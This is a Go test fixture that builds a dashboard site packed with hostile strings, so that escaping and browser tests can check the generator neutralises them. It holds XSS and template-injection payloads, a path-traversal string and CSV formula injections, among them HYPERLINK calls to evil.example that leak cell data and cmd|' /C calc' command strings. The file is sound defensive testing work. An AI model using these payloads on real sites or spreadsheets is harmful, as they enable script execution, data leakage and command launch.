// Package hostile holds the corpus of hostile strings and writes a whole
// vitals site whose every text field carries them, for the tests of
// generator/internal/e2e/hostile (which scan its output) and generator/internal/e2e/browsercheck
// (which open it in Chromium).
package hostile

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vitals-dev/vitals/generator/base/model"
	"github.com/vitals-dev/vitals/generator/sources/store"
)

// Payload is one hostile string with a name for messages.
type Payload struct {
	Name string
	Text string
}

// Corpus is every hostile string. Each is used as an issue title, label,
// login, pull-request title, release name, tag and body, and several more
// fields (see WriteSite).
var Corpus = []Payload{
	{"script tag", `<script>alert(1)</script>`},
	{"img onerror", `<img src=x onerror=alert(1)>`},
	{"attribute breakout", `"'><svg onload=alert(1)>`},
	{"single-quote handler", `' onmouseover='alert(1)' x='`},
	{"javascript URL", `javascript:alert(1)`},
	{"mixed-case javascript URL", ` JaVaScRiPt:alert(document.domain)`},
	{"data URL", `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`},
	{"template syntax", `{{.}}{{template "main" .}}${alert(1)}#{7*7}<%= 7*7 %>`},
	{"go-echarts function", `__f__function(){alert(1)}__f__`},
	{"closing script", `</script><script>alert(1)</script>`},
	{"html comment", `<!-- x --><script>alert(1)</script><!--`},
	{"title and style breakout", `</title></textarea></style><script>alert(1)</script>`},
	{"style breakout", `</style><style>*{background:url("javascript:alert(1)")}</style>`},
	{"RTL override", "invoice\u202Egpj.exe\u202C"},
	{"zero-width", "z\u200bero\u200cwi\u200ddth\ufeff<b\u200bx>"},
	{"NUL and controls", "nul\x00byte\x01\x1b[31m\x7f"},
	{"JSON breaker", "\"\u2028\u2029</script>\\u003c\\\"}]"},
	{"entity double-escape", `&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;b&#62;`},
	{"CSV HYPERLINK", `=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
	{"CSV plus", `+cmd|' /C calc'!A0`},
	{"CSV minus", `-1+1`},
	{"CSV at", `@SUM(1+1)*cmd|' /C calc'!A0`},
	{"CSV tab", "\t=1+1"},
	// Spreadsheets skip blanks before a formula, and encoding/csv drops a
	// lone CR; NFKC folds the full-width ＝ into = (issue 23).
	{"CSV carriage return", "\r=cmd|' /C calc'!A0"},
	{"CSV line feed", "\n+cmd|' /C calc'!A0"},
	{"CSV space", "  @SUM(1+1)*cmd|' /C calc'!A0"},
	{"CSV full-width equals", "\uff1dHYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"},
	{"Markdown link and image", `[click](javascript:alert(1)) ![img](javascript:alert(1)) <javascript:alert(1)> [ent](&#106;avascript:alert(1))`},
	{"path traversal", `../../../../etc/passwd`},
	{"long", strings.Repeat("A", 5000) + `<script>alert(1)</script>`},
}

// PNGDataURL is a valid one-pixel PNG, the kind of data: image goldmark keeps.
const PNGDataURL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="

// Repos are the configured repositories; Corpus[i] goes to Repos[i/PerRepo]
// so that every payload is among each repo's ten oldest open bugs.
var Repos = []string{"evil/one", "evil/two", "evil/three"}

// PerRepo is how many payloads each repo carries (the issues page lists ten
// oldest open bugs).
const PerRepo = 10

// AsOf is the store's sync time.
var AsOf = time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)

// Fields of the site that the tests look for on the pages.
var (
	SiteTitle       = `Health <script>alert(1)</script> "><img src=x onerror=alert(1)> {{.}}`
	SiteDescription = `"'><svg onload=alert(1)> javascript:alert(1) __f__function(){alert(1)}__f__`
	// BaseURL is pasted badly: a control character, a zero-width space and
	// a breakout.
	BaseURL = "https://example.com/\x01\u200b\"><script>alert(1)</script> x/"

	SLOName        = `API <img src=x onerror=alert(1)> availability`
	SLODescription = `</p><script>alert(1)</script> "'><svg onload=alert(1)>`
	KPIName        = `Signups <img src=x onerror=alert(1)>`
	KPIUnit        = `"'><svg onload=alert(1)>`
	KPI2Name       = `__f__function(){alert(1)}__f__`
	// SeriesColumn is a metric export column (a series' own name) that the
	// first KPI reads.
	SeriesColumn = `<script>alert(1)</script>`
	// Stages are the funnel's stages; the KPIs sit on the first two.
	Stages = []string{`<img src=x onerror=alert(1)>`, `=HYPERLINK("http://evil.example")`, `__f__function(){alert(1)}__f__`}

	PMTitle    = `Outage <script>alert(1)</script> "><img src=x onerror=alert(1)>`
	PMSeverity = `<b onmouseover=alert(1)>SEV1</b>`
	PMStatus   = `javascript:alert(1)`
	PMService  = `"><svg onload=alert(1)>`
	PMTag      = `=cmd|' /C calc'!A0`
	PMOwner    = `<img src=x onerror=alert(1)>@owner`
	PMAction   = `</td><script>alert(1)</script>`
	// PM2Title starts with '=': postmortems.csv must neutralise it.
	PM2Title = `=HYPERLINK("http://evil.example","x")`

	// Formulas are text cells that a spreadsheet would run once blanks and
	// compatibility forms are looked past (issue 23). Each reaches a
	// download of its own: SLO2Name slo.csv and launches.csv (a guardrail),
	// AreaName and TeamName areas.csv, PM2Severity postmortems.csv (the
	// corpus reaches releases.csv).
	SLO2Name    = "\uff0bcmd|' /C calc'!A0 latency"
	AreaName    = " \uff20SUM(1+1) area"
	TeamName    = "\r\n-cmd team"
	PM2Severity = "\ufe66cmd|' /C calc'!A0"

	// Decision records (content/decisions): a title, deciders and a status
	// word; the second record supersedes the first through a link.
	DecisionTitle   = `Use <script>alert(1)</script> "'><svg onload=alert(1)> sessions`
	DecisionDecider = `<img src=x onerror=alert(1)>@ann`
	DecisionStatus  = `</td><script>alert(1)</script>`
	// Decision2Title starts with '=': decisions.csv must neutralise it.
	Decision2Title = `=HYPERLINK("http://evil.example","adr")`
	// A pre-mortem (content/premortems) with a hostile title, risk,
	// likelihood and mitigation; the first postmortem names the risk.
	PremortemTitle = `Launch <script>alert(1)</script> "><img src=x onerror=alert(1)>`
	RiskText       = `Logins <img src=x onerror=alert(1)> fail "'><svg onload=alert(1)>`
	RiskLikelihood = `javascript:alert(1)`
	RiskMitigation = `__f__function(){alert(1)}__f__`
	// FeedbackLabel is one of [feedback] labels, a label of Corpus[2]'s
	// issues: every open bug is a feature request too (labels "bug" and
	// this), with reactions and a 👍 history.
	FeedbackLabel = `"'><svg onload=alert(1)>`
	// LaunchTitle, LaunchFlag (launches.csv must neutralise it), a stage's
	// LaunchCohort and the LaunchCanary label's value; the launch's id is
	// LaunchID (a file name must be a slug) and it is guarded by SLOName
	// and KPIName.
	LaunchID     = "2025-04-01-hostile"
	LaunchTitle  = `Launch </h1><script>alert(1)</script> "'><svg onload=alert(1)>`
	LaunchFlag   = `=HYPERLINK("http://evil.example/flag")`
	LaunchCohort = `<img src=x onerror=alert(1)> staff`
	LaunchCanary = `</script><script>alert(1)</script>`

	// An experiment: its title, its hypothesis (the first paragraph under
	// "Hypothesis"), a treatment variant that starts with '=' (a cell of
	// experiments.csv), a metric named like markup (a column of its data,
	// a table row, a chart title) and a decision that disagrees (a flag).
	ExpTitle      = `Bigger <script>alert(1)</script> button "'><svg onload=alert(1)>`
	ExpHypothesis = `We believe <img src=x onerror=alert(1)> will win __f__function(){alert(1)}__f__`
	ExpVariant    = `=HYPERLINK("http://evil.example","v")`
	ExpMetric     = `<img src=x onerror=alert(1)>`
	ExpGuardrail  = `"'><svg onload=alert(1)>`
)

// Texts are the corpus texts.
func Texts() []string {
	out := make([]string, len(Corpus))
	for i, p := range Corpus {
		out[i] = p.Text
	}
	return out
}

// RepoOf is the repo that carries Corpus[i].
func RepoOf(i int) string { return Repos[i/PerRepo] }

// WriteSite writes the hostile site into a temporary folder and returns it.
func WriteSite(t testing.TB) string {
	t.Helper()
	if len(Corpus) > PerRepo*len(Repos) {
		t.Fatalf("corpus of %d payloads does not fit %d repos of %d", len(Corpus), len(Repos), PerRepo)
	}
	dir := t.TempDir()
	write := func(rel, body string) {
		p := filepath.Join(dir, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("site.toml", siteTOML())
	writeStore(t, filepath.Join(dir, "content", "data", "store"))
	write("content/metrics/m.csv", metricsCSV(t))
	write("content/postmortems/2025-03-01-hostile.md", postmortem(PMTitle, PMSeverity, "2025-03-01T10:00:00Z", Corpus[0].Text))
	// A file name is data too: quotes and angle brackets are legal on Linux.
	write(`content/postmortems/2025-04-02-"><img src=x onerror=alert(1)>.md`, postmortem(PM2Title, PM2Severity, "2025-04-02T08:00:00Z", Corpus[1].Text))
	write("content/decisions/0001-hostile.md", "# 1. "+DecisionTitle+"\n\nDate: 2024-01-02\n\n## Status\n\n"+DecisionStatus+
		"\n\nSuperseded by [2. x](0002-hostile.md)\n\n## Context\n\n"+markdownBody())
	write("content/decisions/0002-hostile.md", "---\nstatus: accepted\ndate: 2024-02-03\ndeciders: "+Quote(DecisionDecider)+"\n---\n\n# "+
		Decision2Title+"\n\n## Context and Problem Statement\n\n"+markdownBody())
	// The risks' payloads are code spans, so that Markdown keeps them as
	// text (raw HTML outside them is dropped, as in any content body).
	write("content/premortems/2025-02-01-hostile.md", "---\ntitle: "+Quote(PremortemTitle)+"\ndate: 2025-02-01\n---\n\n## Risks\n\n- `"+RiskText+
		"`. Likelihood: `"+RiskLikelihood+"`. Mitigation: `"+RiskMitigation+"` {#hostile-risk}\n- `"+Corpus[7].Text+"`\n- "+markdownBody()[:40]+"\n\n## Notes\n\n"+markdownBody())
	write("content/launches/"+LaunchID+".md", launch())
	write("content/_index.md", "# Home <script>alert(1)</script>\n\n"+markdownBody())
	write("content/postmortems/_index.md", "# Postmortems <img src=x onerror=alert(1)>\n\n"+markdownBody())
	write(`content/notes/"'><svg onload=alert(1)>.md`, "+++\ntitle = "+Quote(Corpus[2].Text)+"\ndescription = "+Quote(Corpus[9].Text)+"\n+++\n"+markdownBody())
	write("content/experiments/hostile.md", experiment())
	write("content/experiments/hostile.csv", experimentCSV(t))
	return dir
}

// experiment is an experiment document whose every text is hostile: it
// ran over February 2025 (so the 2025-Q1 review lists it), was shipped
// without a win.
func experiment() string {
	var b strings.Builder
	fmt.Fprintf(&b, "---\ntitle: %s\ndata: content/experiments/hostile.csv\nunit: %s\nexposure: at\n", Quote(ExpTitle), Quote(Corpus[0].Text))
	fmt.Fprintf(&b, "weights: {control: 1, %s: 1}\n", Quote(ExpVariant))
	fmt.Fprintf(&b, "primary: %s\nguardrails: [%s]\n", Quote(ExpMetric+":up"), Quote(ExpGuardrail+":down"))
	b.WriteString("start: 2025-02-01\nend: 2025-03-01\ndecision: shipped\n---\n\n")
	fmt.Fprintf(&b, "# %s\n\n## Hypothesis\n\n%s\n\n", ExpTitle, ExpHypothesis)
	b.WriteString(markdownBody())
	return b.String()
}

// experimentCSV is the experiment's units: 40 a variant over February,
// unit ids hostile too.
func experimentCSV(t testing.TB) string {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.Write([]string{Corpus[0].Text, "variant", "at", ExpMetric, ExpGuardrail})
	for i := range 80 {
		v := "control"
		if i%2 == 1 {
			v = ExpVariant
		}
		at := time.Date(2025, 2, 1+i%28, 12, 0, 0, 0, time.UTC).Format(time.RFC3339)
		w.Write([]string{fmt.Sprintf("%s-%d", Corpus[i%len(Corpus)].Text[:min(20, len(Corpus[i%len(Corpus)].Text))], i), v, at,
			fmt.Sprint((i / 2) % 3 % 2), fmt.Sprint(i % 5)})
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func siteTOML() string {
	var b strings.Builder
	fmt.Fprintf(&b, "title = %s\ndescription = %s\nbase_url = %s\n\n", Quote(SiteTitle), Quote(SiteDescription), Quote(BaseURL))
	b.WriteString("[github]\nrepos = [")
	for i, r := range Repos {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(Quote(r))
	}
	b.WriteString("]\n\n[issues]\nbug_labels = [\"bug\"]\n\n")
	fmt.Fprintf(&b, "[feedback]\nlabels = [\"bug\", %s]\n\n", Quote(FeedbackLabel))
	b.WriteString("[[metrics.source]]\nname = \"m\"\nfile = \"content/metrics/m.csv\"\nformat = \"csv\"\n\n")
	fmt.Fprintf(&b, "[[slo]]\nname = %s\ndescription = %s\ntarget = 0.99\nwindow = \"30d\"\ntotal = \"m:total\"\nbad = \"m:bad\"\n\n", Quote(SLOName), Quote(SLODescription))
	fmt.Fprintf(&b, "[[slo]]\nname = %s\ntarget = 0.99\nwindow = \"30d\"\ntotal = \"m:total\"\nbad = \"m:bad\"\n\n", Quote(SLO2Name))
	fmt.Fprintf(&b, "[areas.labels]\n%s = [\"bug\"]\n\n[teams]\n%s = [%s]\n\n", Quote(AreaName), Quote(TeamName), Quote(AreaName))
	fmt.Fprintf(&b, "[[kpi]]\nname = %s\nseries = %s\nunit = %s\ntarget = 100\nstage = %s\n\n", Quote(KPIName), Quote("m:"+SeriesColumn), Quote(KPIUnit), Quote(Stages[0]))
	fmt.Fprintf(&b, "[[kpi]]\nname = %s\nseries = \"m:total\"\nstage = %s\n\n", Quote(KPI2Name), Quote(Stages[1]))
	b.WriteString("[funnel]\nstages = [")
	for i, s := range Stages {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(Quote(s))
	}
	b.WriteString("]\n")
	return b.String()
}

// markdownBody is a content body: raw HTML, script links and images of
// every kind, a path-traversal link and each corpus string as a paragraph.
// (A path-traversal image is left out: it is only a missing image, which
// the build warns about, and the browser check would fail on its 404.)
func markdownBody() string {
	var b strings.Builder
	b.WriteString("# Heading <script>alert(1)</script>\n\n")
	b.WriteString("<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<a href=\"javascript:alert(1)\">raw</a>\n\n")
	b.WriteString("[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:msgbox(1))\n\n")
	b.WriteString("![e](javascript:alert(1)) [f](../../../../etc/passwd) [g][r] <javascript:alert(1)>\n\n")
	b.WriteString("[r]: javascript:alert(1)\n\n")
	// goldmark keeps data: images of raster types only; an SVG can script.
	b.WriteString("![png](" + PNGDataURL + ") ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n")
	b.WriteString("[click](<x\" onmouseover=\"alert(1)>) [t](https://example.com \"\\\"><script>alert(1)</script>\")\n\n")
	for _, p := range Corpus {
		if strings.ContainsRune(p.Text, 0) {
			continue
		}
		b.WriteString(strings.ReplaceAll(p.Text, "\n", " ") + "\n\n")
	}
	return b.String()
}

func postmortem(title, severity, started, extra string) string {
	s, _ := time.Parse(time.RFC3339, started)
	at := func(d time.Duration) string { return s.Add(d).Format(time.RFC3339) }
	var b strings.Builder
	b.WriteString("---\n")
	fmt.Fprintf(&b, "title: %s\nseverity: %s\nstatus: %s\nrepo: %s\nrelease: %s\n", Quote(title), Quote(severity), Quote(PMStatus), Quote(Repos[0]), Quote(Corpus[0].Text))
	fmt.Fprintf(&b, "started: %s\ndetected: %s\nmitigated: %s\nresolved: %s\n", at(0), at(10*time.Minute), at(40*time.Minute), at(3*time.Hour))
	fmt.Fprintf(&b, "services: [%s, %s]\ntags: [%s, %s]\n", Quote(PMService), Quote(extra), Quote(PMTag), Quote(Corpus[8].Text))
	// It names the pre-mortem's risk and both decision records.
	b.WriteString("premortem: 2025-02-01-hostile\nrisk: hostile-risk\ndecisions: [\"0001-hostile\", \"ADR-2\"]\n")
	b.WriteString("action_items:\n")
	fmt.Fprintf(&b, "  - title: %s\n    owner: %s\n    due: 2025-04-01\n    issue: %s\n    status: open\n", Quote(PMAction), Quote(PMOwner), Quote(Repos[0]+"#1"))
	fmt.Fprintf(&b, "  - title: %s\n    owner: %s\n    issue: %s\n    status: done\n", Quote(Corpus[17].Text), Quote(Corpus[18].Text), Quote(Repos[0]+"#2"))
	b.WriteString("---\n\n")
	b.WriteString(markdownBody())
	return b.String()
}

// launch is a launch guarded by the hostile SLO and KPI, with a hostile
// title, flag, cohort, canary label and release tag, and the usual body
// under a Risks heading.
func launch() string {
	var b strings.Builder
	b.WriteString("---\n")
	fmt.Fprintf(&b, "title: %s\nflag: %s\ncanary: %s\n", Quote(LaunchTitle), Quote(LaunchFlag), Quote("variant="+LaunchCanary))
	fmt.Fprintf(&b, "guardrails: [%s, %s, %s]\nreleases: [%s]\n", Quote("slo:"+SLOName), Quote("kpi:"+KPIName), Quote("slo:"+SLO2Name), Quote(Repos[0]+"@"+Corpus[0].Text))
	b.WriteString("stages:\n  - at: 2025-04-01 00:00\n    percent: 10\n")
	fmt.Fprintf(&b, "  - at: 2025-04-15 00:00\n    cohort: %s\n", Quote(LaunchCohort))
	b.WriteString("  - at: 2025-05-01 00:00\n    percent: 50\n  - at: 2025-07-01 00:00\n    percent: 100\n")
	b.WriteString("---\n\n")
	b.WriteString(markdownBody())
	b.WriteString("\n## Risks\n\n- " + strings.ReplaceAll(Corpus[0].Text, "\n", " ") + " Likelihood: high.\n")
	return b.String()
}

func metricsCSV(t testing.TB) string {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	header := []string{"time", "total", "bad", SeriesColumn, Corpus[8].Text, Corpus[18].Text}
	if err := w.Write(header); err != nil {
		t.Fatal(err)
	}
	// Daily points for 150 days before AsOf: 1000 requests, 3 bad (SLI
	// 99.7% against a 99% target), the KPI series 5 a day.
	for d := 150; d >= 1; d-- {
		day := AsOf.AddDate(0, 0, -d).Format("2006-01-02")
		if err := w.Write([]string{day, "1000", "3", "5", "7", "9"}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// writeStore writes one repository document per repo: Corpus[i] in
// RepoOf(i) as an old open bug's title, label, author and html_url, a
// closed issue, a merged pull request, a comment, events and a release.
func writeStore(t testing.TB, dir string) {
	t.Helper()
	day := func(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 12, 0, 0, 0, time.UTC) }
	tp := func(x time.Time) *time.Time { return &x }
	docs := map[string]*store.RepoData{}
	for _, r := range Repos {
		docs[r] = &store.RepoData{Repo: r, SyncedAt: AsOf, EventsComplete: true}
	}
	for i, p := range Corpus {
		repo := RepoOf(i)
		rd := docs[repo]
		n := i%PerRepo + 1
		user := model.User{Login: p.Text, Type: "User"}
		created := day(2023, 1, 1).AddDate(0, 0, i)
		rd.Issues = append(rd.Issues,
			model.Issue{Repo: repo, Number: n, Title: p.Text, State: "open", Author: user,
				Labels: []string{"bug", p.Text}, CreatedAt: created, UpdatedAt: created, URL: hostileURL(i),
				Reactions: &model.Reactions{ThumbsUp: 3 + i, Heart: i % 3, Eyes: 1}},
			model.Issue{Repo: repo, Number: 100 + n, Title: p.Text, State: "closed", StateReason: p.Text, Author: user,
				Labels: []string{p.Text}, CreatedAt: day(2025, 1, 1).AddDate(0, 0, i), UpdatedAt: day(2025, 3, 1),
				ClosedAt: tp(day(2025, 3, 1).AddDate(0, 0, i)), URL: hostileURL(i + 1)})
		merged := day(2025, 2, 1).AddDate(0, 0, i)
		rd.PullRequests = append(rd.PullRequests, model.PullRequest{Repo: repo, Number: 200 + n, Title: p.Text, State: "closed",
			Author: user, Labels: []string{p.Text}, CreatedAt: merged.AddDate(0, 0, -2), UpdatedAt: merged, ClosedAt: tp(merged), MergedAt: tp(merged), URL: hostileURL(i)})
		rd.Demand = append(rd.Demand, model.DemandPoint{Repo: repo, Issue: n, At: AsOf.AddDate(0, 0, -120), ThumbsUp: 1},
			model.DemandPoint{Repo: repo, Issue: n, At: AsOf, ThumbsUp: 3 + i})
		rd.Comments = append(rd.Comments,
			model.Comment{Repo: repo, ID: int64(1000 + i), IssueNumber: n, User: model.User{Login: p.Text + "[bot]", Type: "Bot"}, CreatedAt: created.Add(time.Hour)},
			model.Comment{Repo: repo, ID: int64(2000 + i), IssueNumber: n, User: user, CreatedAt: created.Add(2 * time.Hour)},
			model.Comment{Repo: repo, ID: int64(3000 + i), IssueNumber: 100 + n, User: model.User{Login: "m" + p.Text}, CreatedAt: day(2025, 1, 2).AddDate(0, 0, i)})
		rd.Events = append(rd.Events,
			model.Event{Repo: repo, ID: int64(4000 + i), IssueNumber: 100 + n, Event: "closed", Actor: user, CreatedAt: day(2025, 3, 1).AddDate(0, 0, i)},
			model.Event{Repo: repo, ID: int64(5000 + i), IssueNumber: n, Event: p.Text, Actor: user, CreatedAt: created.Add(3 * time.Hour)},
			model.Event{Repo: repo, ID: int64(6000 + i), IssueNumber: n, Event: "labeled", Actor: model.User{Login: p.Text, Type: p.Text}, CreatedAt: created.Add(4 * time.Hour)})
		pub := day(2024, 7, 1).AddDate(0, 0, 11*i)
		tag := p.Text
		if strings.TrimSpace(tag) == "" {
			tag = "v" + fmt.Sprint(i)
		}
		rd.Releases = append(rd.Releases, model.Release{Repo: repo, ID: int64(7000 + i), Tag: tag, Name: p.Text + " release",
			CreatedAt: pub, PublishedAt: tp(pub), Body: "## Notes " + p.Text + "\n\n" + markdownBody(), URL: hostileURL(i), Prerelease: i%5 == 4})
	}
	var names []string
	for _, r := range Repos {
		if err := store.WriteRepo(dir, docs[r]); err != nil {
			t.Fatal(err)
		}
		names = append(names, r)
	}
	if err := store.WriteManifest(dir, store.Manifest{SyncedAt: AsOf, Repos: names}); err != nil {
		t.Fatal(err)
	}
}

// hostileURL is an html_url: script and data URLs, and https URLs that try
// to break out of the attribute.
func hostileURL(i int) string {
	urls := []string{
		"javascript:alert(1)",
		" JaVaScRiPt:alert(1)",
		"data:text/html,<script>alert(1)</script>",
		`https://example.com/"><script>alert(1)</script>`,
		"vbscript:msgbox(1)",
		"https://example.com/' onmouseover='alert(1)",
		"//evil.example/x",
	}
	return urls[i%len(urls)]
}

// Quote writes s as a TOML basic string, which is also a YAML
// double-quoted scalar: control characters, quotes and backslashes escaped
// as \uXXXX, \" and \\, everything else as it is.
func Quote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"':
			b.WriteString(`\"`)
		case r == '\\':
			b.WriteString(`\\`)
		case r < 0x20 || r == 0x7f || r == 0x2028 || r == 0x2029 || r == 0xfeff:
			fmt.Fprintf(&b, `\u%04X`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}
